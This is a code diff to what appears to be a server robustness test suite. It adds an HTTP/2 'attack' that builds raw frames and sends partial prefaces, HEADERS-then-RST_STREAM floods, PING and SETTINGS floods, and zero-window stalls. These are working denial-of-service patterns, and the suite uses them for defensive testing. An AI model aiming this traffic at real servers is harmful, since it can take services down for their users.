@@ -4,6 +4,7 @@ Each attack is a generator; after each step the server must answer another clien
 """
 
 import socket
+import struct
 import time
 
 import reader
@@ -23,6 +24,9 @@ FLOOD = 4 << 20
 TURN = 8
 """The limit in processor seconds from a client's request to the response."""
 CHUNKED = "Transfer-Encoding: chunked\r\n"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+RST_STREAM, SETTINGS, PING, HEADERS = 3, 4, 6, 1
+END_STREAM, END_HEADERS = 1, 4
 ATTACKS = []
 
 
@@ -442,6 +446,45 @@ def resets_after_switch(server):
     yield
     server.reset_all()
     yield
+
+
+@attack("HTTP/2 that stalls, resets its streams, or does not read")
+def http2(server):
+    if not server.host.http2:
+        raise NotApplicable("it speaks no HTTP/2")
+    opening = PREFACE + frame(SETTINGS)
+    # GET, http and / of the static table, then `:authority: a`.
+    get = b"\x82\x86\x84\x41\x01a"
+    for at in range(1, len(opening) + 1):
+        server.connect(opening[:at])
+        peer = server.connect(opening[:at])
+        peer.end()
+        yield
+    streams = range(1, 2 * server.scale, 2)
+    server.connect(opening).send_what_fits(
+        b"".join(frame(HEADERS, stream, get, END_HEADERS) + frame(RST_STREAM, stream, bytes(4)) for stream in streams)
+    )
+    yield
+    server.connect(opening).send_what_fits(
+        b"".join(frame(HEADERS, stream, get, END_HEADERS | END_STREAM) for stream in streams)
+    )
+    yield
+    server.connect(opening).send_what_fits(frame(PING, 0, bytes(8)) * server.scale)
+    yield
+    server.connect(opening).send_what_fits(frame(SETTINGS) * server.scale)
+    yield
+    # A window of 0: each response waits.
+    server.connect(PREFACE + frame(SETTINGS, payload=struct.pack(">HI", 4, 0))).send_what_fits(
+        b"".join(frame(HEADERS, stream, get, END_HEADERS | END_STREAM) for stream in streams[:100])
+    )
+    yield
+    server.reset_all()
+    yield
+
+
+def frame(kind, stream=0, payload=b"", flags=0):
+    """Returns a frame of HTTP/2 (RFC 9113, section 4.1)."""
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
 def echo(server, content):
